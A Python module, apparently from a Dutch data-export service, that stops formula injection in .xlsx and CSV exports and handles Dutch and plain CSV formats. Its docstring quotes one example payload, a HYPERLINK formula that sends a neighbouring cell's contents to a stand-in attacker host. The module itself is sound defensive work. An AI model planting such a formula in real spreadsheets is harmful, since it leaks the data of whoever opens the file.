"""Text in spreadsheets we write stays text (no formula injection).

A text that starts with = + - @ tab or carriage return is taken as a formula by Excel and
LibreOffice: a measurement note `=HYPERLINK("http://evil.example/?x="&A2,"Klik")` in an
exported workbook would become a live link that sends the neighbouring cell away.

- In an .xlsx every such text is written as a text cell (openpyxl otherwise writes a text
  starting with '=' as a formula); the text itself is unchanged, so importing the workbook
  gives it back as it was. `workbook_bytes` does this for every sheet, so no writer can
  forget it.
- In a CSV there are no cell types: such a text is prefixed with a single quote, as OWASP
  advises (`csv_cell`, `csv_row`). Numbers are left alone (-12.5 stays a number). The
  importer takes the quote off again (`strip_csv_guard`), so a round trip gives the text
  back.

See docs/security.md#exports.
"""

import io
import re
from dataclasses import dataclass
from decimal import Decimal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
GUARD = "'"


def is_risky(text):
    """Whether a spreadsheet program could take this text for a formula."""
    return isinstance(text, str) and text.startswith(TRIGGERS) and not _NUMBER.match(text)


def text_only(wb):
    """Make every cell of the workbook that openpyxl would write as a formula a text cell."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # a text starting with "="
                    cell.data_type = "s"
    return wb


def workbook_bytes(wb):
    """The workbook as .xlsx bytes, with every text written as text (never as a formula)."""
    text_only(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_cell(value):
    """A value for a CSV cell: a risky text gets a leading single quote."""
    if is_risky(value):
        return GUARD + value
    return value


def csv_row(values):
    return [csv_cell(v) for v in values]


def strip_csv_guard(value):
    """The text as it was before `csv_cell` guarded it."""
    if isinstance(value, str) and value.startswith(GUARD) and is_risky(value[1:]):
        return value[1:]
    return value


@dataclass(frozen=True)
class CsvVariant:
    """How a CSV separates fields and writes numbers.

    - `DUTCH` ("CSV voor Excel"): what a spreadsheet program in a Dutch locale opens with a
      double click: fields separated by semicolons, a decimal comma, and UTF-8 with a
      byte-order mark (without it Dutch Excel reads "categorieën" as Windows-1252). The
      default on Dutch pages.
    - `PLAIN` ("CSV voor analyse"): commas, a decimal point, UTF-8 without a mark: what R,
      Python, Stata and SPSS read without options. The default on English pages.
    """

    key: str
    delimiter: str
    decimal: str
    bom: bool

    def number(self, value):
        """A number as this variant writes it: never an exponent, the variant's decimal sign."""
        if isinstance(value, bool) or not isinstance(value, (int, float, Decimal)):
            return value
        if isinstance(value, float):
            value = Decimal(repr(value))
        text = f"{value.normalize():f}" if isinstance(value, Decimal) else str(value)
        return text.replace(".", self.decimal)

    def encode(self, text):
        return (("\ufeff" if self.bom else "") + text).encode("utf-8")


DUTCH = CsvVariant("excel", ";", ",", True)
PLAIN = CsvVariant("analyse", ",", ".", False)
CSV_VARIANTS = {v.key: v for v in (DUTCH, PLAIN)}


def csv_variant(key, language="nl"):
    """The variant asked for by name (`?csv=excel` or `?csv=analyse`), else the default for the
    page's language: Dutch spreadsheet users on Dutch pages, the plain one elsewhere."""
    if key in CSV_VARIANTS:
        return CSV_VARIANTS[key]
    return DUTCH if (language or "nl").startswith("nl") else PLAIN


class CsvWriter:
    """csv.writer for exports: every risky text guarded (csv_cell), numbers written as the
    variant writes them (`CsvVariant`, default the plain one). With lines ending in '\\n',
    Python's writer leaves a carriage return inside a text unquoted, which breaks the row; a
    row holding one is written with every field quoted."""

    def __init__(self, out, lineterminator="\n", variant=None):
        import csv

        self.variant = variant or PLAIN
        delimiter = self.variant.delimiter
        self._plain = csv.writer(out, lineterminator=lineterminator, delimiter=delimiter)
        self._quoted = csv.writer(out, lineterminator=lineterminator, delimiter=delimiter,
                                  quoting=csv.QUOTE_ALL)

    def writerow(self, values):
        values = csv_row([self.variant.number(v) for v in values])
        if any(isinstance(v, str) and "\r" in v for v in values):
            return self._quoted.writerow(values)
        return self._plain.writerow(values)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
